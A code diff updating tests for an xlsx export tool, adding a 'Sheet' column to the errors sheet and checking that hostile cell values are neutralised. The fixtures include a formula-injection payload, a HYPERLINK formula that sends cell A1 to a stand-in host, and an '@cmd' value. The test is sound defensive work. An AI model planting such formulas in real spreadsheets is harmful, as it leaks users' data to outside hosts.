@@ -236,9 +236,9 @@ def test_xlsx_reads_back(at_root, lang):
     assert by_district[1][:2] == ["370102", "历下区" if lang == "zh" else "Lixia"]
     # the errors sheet: header only (the sample is clean)
     assert sheet_rows(wb[names[2]]) == [
-        ["类别", "文件", "行", "列", "值", "问题", "问题代码"]
+        ["类别", "文件", "工作表", "行", "列", "值", "问题", "问题代码"]
         if lang == "zh"
-        else ["Severity", "File", "Row", "Column", "Value", "Problem", "Code"]
+        else ["Severity", "File", "Sheet", "Row", "Column", "Value", "Problem", "Code"]
     ]
 
 
@@ -248,13 +248,14 @@ def test_xlsx_errors_sheet_lists_errors_and_warnings_neutralised(tmp_path):
     assert result.exit_code == 3
     wb = openpyxl.load_workbook(out)
     rows = sheet_rows(wb["Errors and warnings"])
-    assert rows[0] == ["Severity", "File", "Row", "Column", "Value", "Problem", "Code"]
+    assert rows[0] == ["Severity", "File", "Sheet", "Row", "Column", "Value", "Problem", "Code"]
     assert [r[0] for r in rows[1:]] == ["error", "error", "error", "warning", "warning"]
-    assert [r[2] for r in rows[1:4]] == [3, 4, 5]
-    assert rows[1][4] == "-5"  # a number written as text is left alone
-    assert rows[2][4] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"  # a formula is not
-    assert rows[3][4] == "12\ufffd34"  # a control character Excel refuses is replaced
-    assert rows[4][3] == "'@cmd"
+    assert [r[2] for r in rows[1:]] == [None] * 5  # a CSV input: no sheet
+    assert [r[3] for r in rows[1:4]] == [3, 4, 5]
+    assert rows[1][5] == "-5"  # a number written as text is left alone
+    assert rows[2][5] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"  # a formula is not
+    assert rows[3][5] == "12\ufffd34"  # a control character Excel refuses is replaced
+    assert rows[4][4] == "'@cmd"
     # nothing in the workbook is a formula
     for ws in wb:
         for row in ws.iter_rows():
